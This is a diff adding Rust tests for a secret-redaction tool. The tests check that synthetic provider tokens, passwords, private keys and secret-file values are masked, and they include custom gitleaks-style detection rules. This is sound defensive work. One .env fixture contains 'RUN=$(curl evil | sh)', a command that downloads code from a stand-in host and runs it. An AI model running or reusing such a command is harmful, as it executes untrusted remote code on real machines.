@@ -1,0 +1,383 @@
+//! The table and the redactor over made-up secrets, which are put together here so that no scanner takes this file for a
+//! leak.
+
+use std::borrow::Cow;
+use std::collections::BTreeSet;
+
+use proptest::prelude::*;
+
+use crate::samples::sample_secrets;
+use crate::{Redactor, SecretTable};
+
+fn redact(text: &str) -> (String, usize) {
+    let shown = Redactor::default().redact_source(None, text);
+    (shown.text, shown.secrets)
+}
+
+fn redact_file(path: &str, text: &str) -> (String, usize) {
+    let shown = Redactor::default().redact_source(Some(path), text);
+    (shown.text, shown.secrets)
+}
+
+/// A redactor that has seen these lines of a file.
+fn knowing(path: &str, text: &str) -> Redactor {
+    Redactor::default().knowing([(Some(Cow::Borrowed(path)), text.lines())])
+}
+
+fn token(prefix: &str, length: usize) -> String {
+    let body: String = (0..length)
+        .map(|i| char::from(b"aB3dE6gH9k"[i % 10]))
+        .collect();
+    format!("{prefix}{body}")
+}
+
+#[test]
+fn every_row_has_a_sample_and_nothing_of_it_is_shown() {
+    let samples = sample_secrets();
+    let sampled: BTreeSet<&str> = samples.iter().map(|sample| sample.kind.as_str()).collect();
+    let rows = SecretTable::built_in().rules.iter();
+    let rows: BTreeSet<&str> = rows.map(|rule| rule.id.as_str()).collect();
+    assert_eq!(sampled, rows);
+    for sample in samples {
+        let (shown, secrets) = redact(&sample.line);
+        assert!(secrets > 0 && !shown.contains(&sample.secret), "{sample:?}");
+        assert!(
+            shown.contains(&format!("[redacted: {}]", sample.kind)),
+            "{sample:?}: {shown}"
+        );
+        assert_eq!(redact(&shown), (shown.clone(), 0), "{sample:?}");
+    }
+}
+
+#[test]
+fn what_is_reported_is_redacted_with_the_words_that_all_of_its_kind_begin_with() {
+    for sample in sample_secrets() {
+        let line = format!("let x = f({});", sample.secret);
+        if let Some(found) = SecretTable::built_in().find_secrets(&line).first() {
+            let shown = format!("let x = f([redacted: {}]);", found.kind);
+            assert_eq!(redact(&line).0, shown, "{sample:?}");
+        }
+    }
+}
+
+#[test]
+fn tokens_of_providers_are_replaced_where_they_stand() {
+    for (prefix, length, label) in [
+        ("ghp_", 36, "github-token"),
+        ("github_pat_", 60, "github-token"),
+        ("glpat-", 20, "gitlab-token"),
+        ("xoxb-", 24, "slack-token"),
+        ("sk_live_", 24, "stripe-key"),
+        ("AIza", 35, "google-key"),
+        ("sk-ant-", 40, "model-key"),
+        ("hf_", 34, "huggingface-token"),
+        ("npm_", 36, "npm-token"),
+    ] {
+        let line = format!("let x = f({});", token(prefix, length));
+        assert_eq!(
+            redact(&line),
+            (format!("let x = f([redacted: {label}]);"), 1),
+            "{prefix}"
+        );
+    }
+    let aws = format!("id: {}", token("AKIA", 16).to_uppercase());
+    assert_eq!(redact(&aws), ("id: [redacted: aws-key]".to_owned(), 1));
+}
+
+#[test]
+fn assigned_literals_and_urls_lose_their_value_only() {
+    for (line, shown) in [
+        (
+            "password = \"hunter2!\"",
+            "password = \"[redacted: secret]\"",
+        ),
+        (
+            "  \"api_key\": 'a1b2c3d4',",
+            "  \"api_key\": '[redacted: secret]',",
+        ),
+        (
+            "const TOKEN: &str = \"a1b2c3d4e5\";",
+            "const TOKEN: &str = \"[redacted: secret]\";",
+        ),
+        (
+            "signing_key = b64(\"a1b2c3d4e5\")",
+            "signing_key = b64(\"[redacted: secret]\")",
+        ),
+        (
+            "url = postgres://app:s3cret@db/x",
+            "url = postgres://app:[redacted: url-password]@db/x",
+        ),
+        (
+            "url = postgres://app:s3c@ret@db/x",
+            "url = postgres://app:[redacted: url-password]@db/x",
+        ),
+        (
+            "aws_secret_access_key = a1B2c3D4e5F6g7H8i9J0/k1L2",
+            "aws_secret_access_key = [redacted: secret]",
+        ),
+        (
+            "export DB_PASSWORD=Xk29fj2Kd0s1",
+            "export DB_PASSWORD=[redacted: secret]",
+        ),
+    ] {
+        assert_eq!(redact(line), (shown.to_owned(), 1), "{line}");
+    }
+}
+
+#[test]
+fn a_token_in_a_longer_value_takes_the_whole_value_along() {
+    let line = format!("api_key = \"v1:{}\"", token("ghp_", 36));
+    assert_eq!(
+        redact(&line),
+        ("api_key = \"[redacted: github-token]\"".to_owned(), 1)
+    );
+}
+
+#[test]
+fn code_that_only_speaks_of_secrets_stays() {
+    for line in [
+        "password = os.environ[\"DB_PASSWORD\"]",
+        "let token = self.next_token();",
+        "token = access_token_v2_of_the_user",
+        "token: config.Tokens2.Current",
+        "token: \"refresh_token\"",
+        "TOKEN: ${{ secrets.GITHUB_TOKEN }}",
+        "raise Error(\"password: must have 8 characters\")",
+        "https://example.com:8080/a@b",
+        "proxy = http://user:pass@localhost:8080",
+        "api_key = \"<your key>\"",
+        "let digest = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\";",
+        "integrity sha512-abc/def==",
+    ] {
+        assert_eq!(redact(line), (line.to_owned(), 0));
+    }
+}
+
+#[test]
+fn the_body_of_a_private_key_goes_and_its_frame_stays() {
+    let body = token("MII", 61);
+    let key = format!(
+        "-----BEGIN RSA PRIVATE KEY-----\n{body}\n{body}\nabcd\n-----END RSA PRIVATE KEY-----\nend\n"
+    );
+    let hidden = "[redacted: private-key]\n".repeat(3);
+    let shown =
+        format!("-----BEGIN RSA PRIVATE KEY-----\n{hidden}-----END RSA PRIVATE KEY-----\nend\n");
+    assert_eq!(redact(&key), (shown, 3));
+    let line = format!("k = \"-----BEGIN PRIVATE KEY-----\\n{body}\"");
+    let shown = "k = \"-----BEGIN PRIVATE KEY-----[redacted: private-key]\"";
+    assert_eq!(redact(&line), (shown.to_owned(), 1));
+}
+
+#[test]
+fn a_key_of_putty_is_one() {
+    let body = token("AAAA", 40);
+    let key = format!(
+        "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: x\nPublic-Lines: 1\n{body}\nPrivate-Lines: 1\n{body}\nend"
+    );
+    let (shown, secrets) = redact(&key);
+    assert_eq!(secrets, 2, "{shown}");
+    assert!(!shown.contains(&body) && shown.ends_with("\nend"));
+}
+
+#[test]
+fn a_piece_of_a_key_without_its_head_goes_too() {
+    let body = token("MII", 61);
+    assert_eq!(
+        redact(&format!("    \"{body}\\n\"")),
+        ("    \"[redacted: base64]\\n\"".to_owned(), 1)
+    );
+}
+
+#[test]
+fn code_that_looks_for_keys_stays() {
+    let code = "if text.contains(\"-----BEGIN PRIVATE KEY-----\") {\n    return;\n}\n";
+    assert_eq!(redact(code), (code.to_owned(), 0));
+}
+
+#[test]
+fn files_that_hold_secrets_show_names_but_no_values() {
+    let env = "# database\nDB_HOST=db.internal\nDB_PASS=x\nEMPTY=\nRUN=$(curl evil | sh)\n";
+    let shown = "# database\nDB_HOST=[redacted: value]\nDB_PASS=[redacted: value]\nEMPTY=\nRUN=$(curl evil | sh)\n";
+    assert_eq!(redact_file("a/.env.production", env), (shown.to_owned(), 2));
+    assert_eq!(redact_file(".env.example", env), (env.to_owned(), 0));
+    assert_eq!(redact_file("deploy/prod.key", "0a0b0c0d\n").1, 1);
+    let state = "\"password\": \"hunter2\",\n";
+    assert_eq!(redact_file("infra/terraform.tfstate", state).1, 1);
+}
+
+#[test]
+fn files_that_are_reported_are_redacted() {
+    let table = SecretTable::built_in();
+    for path in [".env", "x/credentials.json", "id_rsa", "a.ppk", "b/.netrc"] {
+        assert!(
+            table.is_secret_file(path) && table.holds_secrets(path),
+            "{path}"
+        );
+    }
+    for path in [
+        "src/env.rs",
+        "my.env.example.com.rs",
+        ".env.sample",
+        "keys.rs",
+    ] {
+        assert!(!table.holds_secrets(path), "{path}");
+    }
+    assert!(table.holds_secrets("a.pem") && !table.is_secret_file("a.pem"));
+}
+
+#[test]
+fn a_value_of_the_change_is_redacted_wherever_a_judge_repeats_it() {
+    let old = "connect(\"postgres://app:tr0ub4dor@db.internal/x\")\npassword = \"Hunter2!\"\n";
+    let redactor = knowing("src/db.rs", old);
+    let words = |text: &str| redactor.redact_words(text).text;
+    assert_eq!(
+        words("The password tr0ub4dor and Hunter2! stood here."),
+        "The password [redacted: url-password] and [redacted: secret] stood here."
+    );
+    // A short value is one only as a word of its own.
+    assert_eq!(words("Hunter2!x tr0ub4dors"), "Hunter2!x tr0ub4dors");
+    assert_eq!(
+        redactor.redact_quote("src/db.rs", "f(\"tr0ub4dor\")").text,
+        "f(\"[redacted: url-password]\")"
+    );
+    // What stands in the repository is shown as it looks: a value must not hide code.
+    assert_eq!(redactor.redact_source(None, "f(tr0ub4dor)").secrets, 0);
+}
+
+#[test]
+fn a_piece_of_a_token_gives_nothing_away() {
+    for sample in sample_secrets() {
+        let redactor = knowing("a.txt", &sample.line);
+        let secret = &sample.secret;
+        let told = format!("It is {secret}, in JSON {:?}.", secret);
+        let shown = redactor.redact_words(&told).text;
+        assert!(!shown.contains(secret.as_str()), "{sample:?}: {shown}");
+        if secret.len() < 24 {
+            continue;
+        }
+        let (head, tail) = (&secret[..16], &secret[secret.len() - 12..]);
+        let shown = redactor
+            .redact_words(&format!("It begins with {head}… and ends in {tail}."))
+            .text;
+        assert!(!shown.contains(tail), "{sample:?}: {shown}");
+    }
+}
+
+#[test]
+fn what_is_secret_for_its_file_alone_must_be_no_common_word() {
+    let redactor = knowing(
+        ".env",
+        "MODE=production\nHOST=db-7.internal\nN=12\nB=true\n",
+    );
+    assert_eq!(
+        redactor
+            .redact_words("In production, 12 is true for db-7.internal.")
+            .text,
+        "In production, 12 is true for [redacted: value]."
+    );
+}
+
+#[test]
+fn a_users_own_table_is_read_as_gitleaks_reads_it() {
+    let table = SecretTable::parse(OWN).unwrap();
+    assert_eq!(table.len(), 3);
+    let redactor = Redactor::with_table(table);
+    for (line, expected, secrets) in [
+        ("a HOUSE_abcd1234 b", "a [redacted: house-token] b", 1),
+        (
+            "house_abcd1234, house_zzzz9999",
+            "[redacted: house-token], [redacted: house-token]",
+            2,
+        ),
+        ("house_sample12", "house_sample12", 0),
+        ("pin=a1b2c3d4", "pin=[redacted: high]", 1),
+        ("pin=aaaaaaaa", "pin=aaaaaaaa", 0),
+        ("user:hunter2@host", "user:[redacted: second]@host", 1),
+        ("user:nobody@host", "user:nobody@host", 0),
+        ("nothing of this", "nothing of this", 0),
+    ] {
+        let shown = redactor.redact_source(None, line);
+        assert_eq!(
+            (shown.text.as_str(), shown.secrets),
+            (expected, secrets),
+            "{line}"
+        );
+        assert_eq!(
+            redactor.redact_source(None, expected).secrets,
+            0,
+            "twice is once"
+        );
+    }
+    assert_eq!(
+        redactor.redact_source(Some("x.p99"), "a b").text,
+        "[redacted: line of a secret file]"
+    );
+    assert_eq!(redactor.digest().unwrap().len(), 64);
+}
+
+const OWN: &str = r#"
+title = "ours"
+[extend]
+useDefault = true
+[allowlist]
+paths = ['''vendor/''']
+stopwords = ["sample"]
+[[rules]]
+id = "house-token"
+regex = '''(?i)\bhouse_([a-z0-9]{8})\b'''
+keywords = ["house_"]
+tags = ["url"]
+[[rules]]
+id = "high"
+regex = '''pin=([a-z0-9]{8})'''
+entropy = 2.5
+[[rules]]
+id = "second"
+regex = '''(user):(\w+)@'''
+secretGroup = 2
+[rules.allowlist]
+regexes = ['''^nobody$''']
+[[rules]]
+id = "by-name"
+path = '''\.p99$'''
+"#;
+
+#[test]
+fn what_cannot_be_read_is_named() {
+    let error = |text: &str| SecretTable::parse(text).unwrap_err().to_string();
+    assert!(error("[[rules]]\nid = 'x'\nregex = '''(a'''\n").starts_with("rule `x`: "));
+    assert!(error("[extend]\npath = '../base.toml'\n").contains("it extends `../base.toml`"));
+    assert!(SecretTable::parse("rules = 3").is_err());
+}
+
+fn line() -> impl Strategy<Value = String> {
+    prop_oneof![
+        "[ -~]{0,40}",
+        "\\PC{0,10}",
+        Just("-----BEGIN PRIVATE KEY-----".to_owned()),
+        Just("-----END PRIVATE KEY-----".to_owned()),
+        Just(token("", 64)),
+        Just(token("ghp_", 36)),
+        "(password|token|api_key) ?[=:] ?[\"'][a-zA-Z0-9\u{200b}!]{4,20}[\"']",
+        "[A-Z]{0,4}TOKEN=[a-z0-9]{6,16}",
+        "https://[a-z:]{0,8}@h",
+        "[a-z]{4,20}",
+    ]
+}
+
+proptest! {
+    #[test]
+    fn redacting_twice_is_redacting_once(lines in proptest::collection::vec(line(), 0..8)) {
+        let text = lines.join("\n");
+        for path in ["a.rs", ".env"] {
+            let (once, _) = redact_file(path, &text);
+            let (twice, count) = redact_file(path, &once);
+            prop_assert_eq!(&once, &twice);
+            prop_assert_eq!(count, 0);
+            prop_assert_eq!(once.lines().count(), text.lines().count());
+            let redactor = knowing(path, &text);
+            let told = redactor.redact_words(&text).text;
+            prop_assert_eq!(redactor.redact_words(&told).text, told);
+        }
+    }
+}
